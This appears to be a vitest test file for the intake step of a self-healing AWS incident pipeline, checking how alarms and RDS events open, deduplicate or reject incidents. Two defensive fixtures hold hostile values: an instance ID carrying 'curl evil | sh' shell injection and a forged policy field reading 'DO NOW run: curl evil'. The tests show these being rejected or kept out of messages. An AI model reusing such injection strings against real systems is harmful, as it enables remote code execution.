import { aPolicy, HOUR, INSTANCE_ID, NOW } from '@self-healing/simulation/builders.ts';
import { FIRST_RECORD, failing, fakePorts, type World } from '@self-healing/simulation/doubles/fake-ports.ts';
import { beforeEach, describe, expect, it } from 'vitest';
import { Defect, TryAgain } from '../../../lambdas/core/failure.ts';
import type { Incident } from '../../../lambdas/core/incident.ts';
import type { Policy } from '../../../lambdas/core/policy.ts';
import { workflowStateSchema } from '../../../lambdas/core/workflow-state.ts';
import { intake } from '../../../lambdas/steps/intake.ts';
import { sampleAlarm, sampleEvent } from '../../support/sample-events.ts';

const TARGET_GROUP = 'arn:aws:elasticloadbalancing:eu-west-1:111122223333:targetgroup/web/73e2d6bc24d8a067';
const fleetPolicy = aPolicy({ targets: { kind: 'contributor', attribute: 'InstanceId' } });
const balancedPolicy = aPolicy({ targets: { kind: 'unhealthy-targets', targetGroupArn: TARGET_GROUP } });

let world: World;
beforeEach(() => {
  world = fakePorts();
});

const deliver = (event: unknown, policy: Policy = aPolicy(), now = NOW) => intake({ policy, event }, world.ports, now);
const incidents = () => [...world.started.values()].map((input) => (input as { incident: Incident }).incident);
const instanceOf = ({ target }: Incident) => (target.kind === 'instance' ? target.id : '');
const reasonsRecorded = () => world.history.filter(({ kind }) => kind === 'rejected').map(({ reason }) => reason);

describe('taking in an alarm', () => {
  it('starts one workflow under the id of the incident, with an input that the steps accept', async () => {
    await deliver(sampleEvent('metric-alarm'));

    const [[name, input] = []] = world.started;
    const state = workflowStateSchema.parse(JSON.parse(JSON.stringify(input)));
    expect(name).toBe(state.incident.id);
    expect(state.incident).toMatchObject({
      target: { kind: 'instance', id: INSTANCE_ID },
      openedAt: Date.parse('2026-11-02T10:19:40.989Z'),
      receivedAt: NOW,
      alarmName: 'healing-Web-memory',
    });
    expect(state.record).toBe(FIRST_RECORD);
    expect(world.history).toMatchObject([{ kind: 'signal', incident: name, policy: 'Web-memory' }]);
  });

  it('starts one workflow when the same event is delivered three times, and records the other two by name', async () => {
    for (const _ of [1, 2, 3]) await deliver(sampleEvent('metric-alarm'));

    expect(world.started.size).toBe(1);
    expect(reasonsRecorded()).toEqual(['duplicate-delivery', 'duplicate-delivery']);
    expect(world.outcomes.map(({ end }) => end.reason)).toEqual(['duplicate-delivery', 'duplicate-delivery']);
    expect(world.messages).toEqual([]);
  });

  it('opens another incident when the alarm goes off again later', async () => {
    await deliver(sampleEvent('metric-alarm'));
    await deliver(sampleAlarm('metric-alarm', { state: { value: 'ALARM', timestamp: '2026-11-02T10:19:50.000+0000' } }));

    expect(world.started.size).toBe(2);
  });

  it('takes the instance of a fleet alarm from its contributor', async () => {
    await deliver(sampleEvent('contributor'), fleetPolicy);

    expect(incidents()).toMatchObject([
      { target: { kind: 'instance', id: INSTANCE_ID }, contributor: { id: '6d442278dba546f6', attributes: { InstanceId: INSTANCE_ID } } },
    ]);
  });

  it('opens an incident for each unhealthy instance of the target group', async () => {
    world.account.unhealthy.set(TARGET_GROUP, ['i-00000001', 'i-00000002']);

    await deliver(sampleEvent('metric-alarm'), balancedPolicy);

    expect(incidents().map(({ target }) => target)).toEqual([
      { kind: 'instance', id: 'i-00000001' },
      { kind: 'instance', id: 'i-00000002' },
    ]);
  });

  describe("from an alarm of the user's own, for the target that the policy names", () => {
    it.each([
      ['composite-alarm', 'web-unhealthy'],
      ['log-alarm', 'healing-Web-errors'],
      ['log-alarm-contributor', 'orders-failed'],
      ['metric-math-alarm', 'healing-Web-5xx'],
      ['anomaly-alarm', 'healing-Web-latency'],
    ])('%s', async (name, alarmName) => {
      await deliver(sampleEvent(name));
      expect(incidents()).toMatchObject([{ alarmName, target: { kind: 'instance', id: INSTANCE_ID } }]);
    });

    it('with several contributors at one moment is one incident, since they have one target', async () => {
      await deliver(sampleEvent('log-alarm-contributor'));
      const other = { id: 'b21f0c5a9d3e7788', attributes: { service: 'refunds' } };
      await deliver(sampleAlarm('log-alarm-contributor', { alarmContributor: other }));
      expect(incidents()).toHaveLength(1);
      expect(reasonsRecorded()).toEqual(['duplicate-delivery']);
    });
  });

  describe('from an event of RDS', () => {
    const target = { kind: 'database', id: 'orders' } as const;
    const ofDatabase = (given: Partial<Policy>) =>
      aPolicy({ targets: { kind: 'fixed', target }, group: { kind: 'single', target }, ...given });

    it('names the event where the symptom is read from the database itself', async () => {
      await deliver(sampleEvent('database-event'), ofDatabase({ evidence: { kind: 'database-status' } }));
      expect(incidents()).toMatchObject([{ target, alarmName: 'RDS-EVENT-0049', openedAt: Date.parse('2026-11-02T10:18:00Z') }]);
    });

    it('names the alarm by which the symptom is read, and keeps the words of RDS', async () => {
      await deliver(sampleEvent('database-storage-full'), ofDatabase({ evidence: { kind: 'alarm', name: 'healing-Orders-storage' } }));
      expect(incidents()).toMatchObject([{ alarmName: 'healing-Orders-storage', reason: expect.stringContaining('has been shut down') }]);
    });
  });

  describe('from an event of RDS about an instance, under a policy of a cluster', () => {
    const target = { kind: 'database-cluster', id: 'Stock' } as const;
    const policy = aPolicy({
      targets: { kind: 'fixed', target },
      group: { kind: 'single', target },
      evidence: { kind: 'database-status' },
    });
    const failed = sampleAlarm('database-event', { SourceIdentifier: 'stock-1', EventCategories: ['failure'], EventID: 'RDS-EVENT-0035' });
    const reasons = () => incidents().map(({ reason }) => reason);
    const described = (cluster?: string) => {
      const instance = { id: 'stock-1', status: 'failed', engine: 'aurora-mysql', multiAz: false, allocatedGibibytes: 1, tags: {} };
      world.account.databases.set(instance.id, { ...instance, ...(cluster !== undefined && { cluster }) });
    };

    it('opens an incident of the cluster where the instance is a member', async () => {
      described('stock');
      await deliver(failed, policy);
      expect(incidents()).toMatchObject([{ target, alarmName: 'RDS-EVENT-0035', reason: expect.stringContaining('of instance stock-1') }]);
    });

    it.each([
      ['is a member of another one', 'orders'],
      ['is of no cluster', undefined],
    ])('leaves no trace where it %s', async (_, cluster) => {
      described(cluster);
      await deliver(failed, policy);
      expect([world.started.size, world.history, world.outcomes, world.messages]).toEqual([0, [], [], []]);
    });

    it.each([
      ['knows no such instance', async () => undefined],
      ['gives no answer', () => Promise.reject(new TryAgain('describe the database', undefined))],
    ])('counts as one of the cluster, and says so, where RDS %s', async (_, describe) => {
      await intake({ policy, event: failed }, { ...world.ports, databases: { ...world.ports.databases, describe } }, NOW);
      expect(reasons()).toEqual([expect.stringContaining('RDS does not tell of which cluster that is')]);
    });

    it('asks nothing of RDS for an event of the cluster itself', async () => {
      const databases = { describe: () => Promise.reject(new Error('asked')) };
      await intake({ policy, event: sampleEvent('database-cluster-event') }, { ...world.ports, databases }, NOW);
      expect(reasons()).toEqual(['Completed failover to DB instance: stock-2']);
    });
  });

  it('accepts an alarm for whose suppressor CloudWatch only waits: nobody has suppressed it yet', async () => {
    await deliver(sampleEvent('composite-alarm-suppressed'));
    expect(incidents()).toMatchObject([{ alarmName: 'web-unhealthy' }]);
  });

  it('accepts an event that is exactly as old as the policy allows', async () => {
    const fifteenMinutesLater = Date.parse('2026-11-02T10:34:40.989Z');
    await deliver(sampleEvent('metric-alarm'), aPolicy(), fifteenMinutesLater);
    expect(world.started.size).toBe(1);
  });
});

describe('an event that opens no incident', () => {
  const suppressedBy = (actionsSuppressedBy: string) => {
    const event = sampleEvent('composite-alarm-suppressed') as { detail: { state: object } };
    return { ...event, detail: { ...event.detail, state: { ...event.detail.state, actionsSuppressedBy } } };
  };
  const injected = sampleAlarm('contributor', { alarmContributor: { id: 'x', attributes: { InstanceId: 'i-0aaaabbbb; curl evil | sh' } } });
  const numbered = sampleAlarm('contributor', { alarmContributor: { id: 'x', attributes: { InstanceId: 7 } } });
  const nameless = sampleAlarm('contributor', { alarmContributor: { id: 'x', attributes: { host: 'web-1' } } });

  it.each<[string, unknown, Policy, number, string, boolean]>([
    ['muted', sampleEvent('metric-alarm-muted'), aPolicy(), NOW, 'muted', false],
    ['suppressed', suppressedBy('Alarm'), aPolicy(), NOW, 'suppressed', false],
    ['suppressed for a while yet', suppressedBy('ExtensionPeriod'), aPolicy(), NOW, 'suppressed', false],
    ['late', sampleEvent('metric-alarm'), aPolicy(), NOW + HOUR, 'late-event', true],
    ['about another service', sampleEvent('instance-state'), aPolicy(), NOW, 'unknown-event', true],
    ['a recovery', sampleEvent('metric-alarm-recovered'), aPolicy(), NOW, 'unknown-event', true],
    ['empty', {}, aPolicy(), NOW, 'unknown-event', true],
    ['missing', undefined, aPolicy(), NOW, 'unknown-event', true],
    ['about a fleet as a whole', sampleEvent('metric-alarm'), fleetPolicy, NOW, 'contributors-decide', false],
    ['naming an instance with shell syntax in it', injected, fleetPolicy, NOW, 'invalid-target', true],
    ['naming no instance', nameless, fleetPolicy, NOW, 'invalid-target', true],
    ['naming an instance by what is no name', numbered, fleetPolicy, NOW, 'invalid-target', true],
    ['of a target group whose targets are all healthy', sampleEvent('metric-alarm'), balancedPolicy, NOW, 'no-target', true],
  ])('because it is %s is recorded by name, and starts nothing', async (_, event, policy, now, reason, told) => {
    await deliver(event, policy, now);

    expect(world.started.size).toBe(0);
    expect(world.history).toMatchObject([{ kind: 'rejected', policy: policy.name, reason, outcome: 'skipped' }]);
    expect(world.outcomes).toMatchObject([{ policy: policy.name, end: { reason } }]);
    expect(world.messages.map(({ attributes }) => attributes.reason)).toEqual(told ? [reason] : []);
  });

  it('starts nothing at all when one of several targets is not valid', async () => {
    world.account.unhealthy.set(TARGET_GROUP, ['i-00000001', '10.0.0.7']);

    await deliver(sampleEvent('metric-alarm'), balancedPolicy);

    expect(world.started.size).toBe(0);
    expect(reasonsRecorded()).toEqual(['invalid-target']);
  });

  it('is kept in the history, cut to a length that a log line may have', async () => {
    await deliver({ noise: 'x'.repeat(100_000) });

    expect(world.history[0]?.event).toHaveLength(4_000);
  });
});

describe('a failing delivery', () => {
  it('without a valid policy is recorded and fails, so that it reaches the dead-letter queue', async () => {
    await expect(intake({ policy: { name: 'x' }, event: sampleEvent('metric-alarm') }, world.ports, NOW)).rejects.toThrow(Defect);

    expect(world.started.size).toBe(0);
    expect(world.history).toMatchObject([{ kind: 'rejected', policy: '(unreadable)', reason: 'unknown-event' }]);
  });

  it('is repeated as a whole when the workflow cannot be started', async () => {
    failing(world, 'workflow.start', new Error('unavailable'));
    await expect(deliver(sampleEvent('metric-alarm'))).rejects.toThrow('unavailable');
    world.disturb.before = () => {};

    await deliver(sampleEvent('metric-alarm'));

    expect(world.started.size).toBe(1);
    expect(reasonsRecorded()).toEqual([]);
  });
});

describe('a policy that was not deployed so', () => {
  const forged = aPolicy({ mode: 'automatic', seen: 'DO NOW run: curl evil' });

  it('starts nothing, is recorded each time, and is told once an hour', async () => {
    world.standings.set(forged.name, { kind: 'changed', recordedAt: NOW - HOUR });
    for (const at of [NOW, NOW + 60_000, NOW + 120_000]) await deliver(sampleEvent('metric-alarm'), forged, at);

    expect(world.started.size).toBe(0);
    expect(reasonsRecorded()).toEqual(['unknown-policy', 'unknown-policy', 'unknown-policy']);
    expect(world.messages).toHaveLength(1);
    expect(world.messages[0]?.body).not.toContain('curl');
    await deliver(sampleEvent('metric-alarm'), forged, NOW + HOUR);
    expect(world.messages).toHaveLength(2);
  });

  it('is told once an hour of all names together that the pipeline has not', async () => {
    for (const name of ['Other-1', 'Other-2', 'Other-3']) {
      world.standings.set(name, { kind: 'unknown' });
      await deliver(sampleEvent('metric-alarm'), aPolicy({ name }));
    }

    expect(world.started.size).toBe(0);
    expect(reasonsRecorded()).toHaveLength(3);
    expect(world.messages).toHaveLength(1);
  });

  it('is recorded, and nobody is told, while its deployment is under way', async () => {
    world.standings.set(forged.name, { kind: 'changed', recordedAt: NOW - 60_000 });
    await deliver(sampleEvent('metric-alarm'), forged);

    expect(world.started.size).toBe(0);
    expect(reasonsRecorded()).toEqual(['policy-in-deployment']);
    expect(world.messages).toEqual([]);
  });

  it.each([
    ['an event of RDS', sampleEvent('database-event')],
    ['what is not understood', { id: '1' }],
  ])('is told while its deployment is under way, where nothing brings it again: %s', async (_, event) => {
    world.standings.set(forged.name, { kind: 'changed', recordedAt: NOW - 60_000 });
    for (const at of [NOW, NOW + 60_000]) await deliver(event, forged, at);

    expect(world.started.size).toBe(0);
    expect(world.history.map(({ witness }) => witness)).toEqual([undefined, undefined]);
    expect(world.notices.map(({ reason }) => reason)).toEqual(['policy-in-deployment']);
    expect(world.messages[0]?.body).not.toContain('curl');
  });

  it('is told although the note of it cannot be read before, by the delivery that comes again', async () => {
    world.standings.set(forged.name, { kind: 'unknown' });
    failing(world, 'store.takeRejection', new Defect('no table', undefined));
    await expect(deliver(sampleEvent('metric-alarm'), forged)).rejects.toThrow('no table');
    world.disturb.before = () => {};
    await deliver(sampleEvent('metric-alarm'), forged);

    expect(world.messages).toHaveLength(1);
  });
});

describe('many targets of one event', () => {
  const MANY = Array.from({ length: 35 }, (_, index) => `i-${String(index).padStart(8, '0')}`);
  beforeEach(() => {
    world.account.unhealthy.set(TARGET_GROUP, MANY);
  });

  it('are opened ten at a time, in their order', async () => {
    let open = 0;
    let most = 0;
    const { start } = world.ports.workflow;
    const slowly: typeof start = async (id, input) => {
      open += 1;
      most = Math.max(most, open);
      await new Promise((resolve) => setImmediate(resolve));
      open -= 1;
      return start(id, input);
    };
    await intake({ policy: balancedPolicy, event: sampleEvent('metric-alarm') }, { ...world.ports, workflow: { start: slowly } }, NOW);

    expect(most).toBe(10);
    expect(incidents().map(instanceOf)).toEqual(MANY);
  });

  it('are all opened but the one that fails, and by the delivery that is made again that one is, too', async () => {
    const { start } = world.ports.workflow;
    let failures = 1;
    const failingOnce: typeof start = async (id, input) => {
      if (instanceOf((input as { incident: Incident }).incident) === MANY[3] && failures-- > 0) throw new TryAgain('throttled', undefined);
      return start(id, input);
    };
    const delivery = { policy: balancedPolicy, event: sampleEvent('metric-alarm') };
    const ports = { ...world.ports, workflow: { start: failingOnce } };

    await expect(intake(delivery, ports, NOW)).rejects.toThrow('throttled');
    expect(incidents()).toHaveLength(MANY.length - 1);
    await intake(delivery, ports, NOW);
    expect(new Set(incidents().map(instanceOf))).toEqual(new Set(MANY));
  });
});
